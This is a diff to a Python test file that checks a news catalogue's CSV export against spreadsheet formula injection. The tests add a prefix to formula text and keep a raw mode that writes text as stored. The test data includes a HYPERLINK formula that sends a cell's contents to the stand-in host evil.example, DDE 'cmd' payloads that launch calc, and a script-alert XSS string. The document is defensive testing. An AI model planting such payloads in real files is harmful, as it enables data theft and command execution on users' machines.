@@ -5,13 +5,15 @@ import io
 
 import pytest
 
+from catalog import fulltext
 from catalog.articles import get_article
 from catalog.claims import add_claim_by_text
 from catalog.editing import ArticleEdit, edit_article
 from catalog.exporting.csv_export import CSV_COLUMNS, export_csv
 from catalog.importing import import_paths
-from catalog.models import Article
-from tests.helpers import article_file
+from catalog.models import Article, Author, Outlet, Topic
+from catalog.safe_output import OutputError
+from tests.helpers import article_file, run_catalog
 
 AWKWARD = 'Tax, "cuts"\nfor <script>alert(1)</script> all'
 WORLD = "Ελλάδα: Путин и Zoë Müller à Genève"
@@ -90,7 +92,7 @@ def test_the_order_of_ids_is_kept_and_missing_ids_are_skipped(news, tmp_path):
 def test_awkward_text_round_trips(news, tmp_path):
     edit_article(news[2], ArticleEdit(notes=AWKWARD, summary="=1+1"))
     target = tmp_path / "out.csv"
-    export_csv(target, [news[2]])
+    export_csv(target, [news[2]], raw=True)
     [row] = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in read_rows(target)[1:]]
     assert (row["notes"], row["summary"]) == (AWKWARD, "=1+1")
 
@@ -119,11 +121,101 @@ def test_a_dash_writes_to_standard_output(news, capsys):
 
 
 def test_an_unwritable_target_raises_and_leaves_no_file(news, tmp_path):
-    with pytest.raises(OSError):
+    with pytest.raises(OutputError, match="the folder .*missing does not exist"):
         export_csv(tmp_path / "missing" / "out.csv")
     before = sorted(tmp_path.iterdir())
     folder = tmp_path / "a-folder.csv"
     folder.mkdir()
-    with pytest.raises(OSError):  # the temporary file is written, then cannot replace a folder
+    with pytest.raises(OutputError, match="it is a folder"):
         export_csv(folder)
     assert sorted(tmp_path.iterdir()) == sorted([*before, folder]) and list(folder.iterdir()) == []
+
+
+# --- formulas: cells a spreadsheet would run --------------------------------------------------
+
+#: What a hostile file can put at the start of a cell; each runs as a formula in some spreadsheet.
+FORMULAS = {
+    "equals": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "carriage-return": "\r=1+1",
+    "line-feed": "\n=1+1",
+    "space-then-equals": "  =1+1",
+    "full-width-equals": "＝1+1",
+}
+TEXT_FIELDS = ("title", "outlet", "authors", "topics", "summary", "notes", "source")
+
+
+def plant_everywhere(article_id: int, value: str) -> None:
+    """``value`` as the article's title, outlet, author, topic, summary, notes and source file,
+    stored as an import could store them (no tidying on the way)."""
+    edit_article(
+        article_id,
+        ArticleEdit(
+            outlet="Placeholder outlet", authors=["Placeholder author"], topics=["Placeholder topic"]
+        ),
+    )
+    with fulltext.reindexing([article_id]):  # the index follows, as after an edit
+        Article.update(title=value, summary=value, notes=value, source_path=value).where(
+            Article.id == article_id
+        ).execute()
+        for model in (Outlet, Author, Topic):
+            model.update(name=value).where(model.name.startswith("Placeholder")).execute()
+
+
+@pytest.mark.parametrize("start", FORMULAS)
+def test_text_that_would_run_as_a_formula_is_written_as_text(news, tmp_path, start):
+    value = FORMULAS[start]
+    plant_everywhere(news[2], value)
+    target = tmp_path / "out.csv"
+    export_csv(target, [news[2]])
+    row = dict(zip(CSV_COLUMNS, read_rows(target)[1], strict=True))
+    assert {field: row[field] for field in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, "'" + value)
+    article = get_article(news[2])
+    # Numbers and dates the export writes itself stay numbers and dates.
+    assert (row["id"], row["claims"], row["version"]) == (str(news[2]), "0", str(article["version"]))
+    assert row["imported_at"] == article["imported_at"]
+
+
+@pytest.mark.parametrize("start", FORMULAS)
+def test_raw_writes_the_text_as_stored(news, tmp_path, start):
+    value = FORMULAS[start]
+    plant_everywhere(news[2], value)
+    target = tmp_path / "raw.csv"
+    export_csv(target, [news[2]], raw=True)
+    row = dict(zip(CSV_COLUMNS, read_rows(target)[1], strict=True))
+    assert {field: row[field] for field in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, value)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Budget day",
+        "",
+        "O'Neil: 3 = 3",
+        "1986",
+        "3-2 win",
+        "A - B",
+        "e-mail",
+        "'quoted'",
+        "Tax = theft?",
+        "#hashtag",
+    ],
+)
+def test_ordinary_text_is_left_alone(news, tmp_path, value):
+    plant_everywhere(news[2], value)
+    target = tmp_path / "out.csv"
+    export_csv(target, [news[2]])
+    row = dict(zip(CSV_COLUMNS, read_rows(target)[1], strict=True))
+    assert {field: row[field] for field in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, value)
+
+
+def test_export_csv_from_the_command_line_neutralises_formulas_unless_raw(news, catalogue):
+    plant_everywhere(news[2], FORMULAS["equals"])
+    for options, expected in (([], "'" + FORMULAS["equals"]), (["--raw"], FORMULAS["equals"])):
+        done = run_catalog("--db", catalogue.location, "export-csv", "-", "--ids", str(news[2]), *options)
+        assert done.returncode == 0, done.stderr
+        row = dict(zip(CSV_COLUMNS, list(csv.reader(io.StringIO(done.stdout)))[1], strict=True))
+        assert {field: row[field] for field in TEXT_FIELDS} == dict.fromkeys(TEXT_FIELDS, expected)
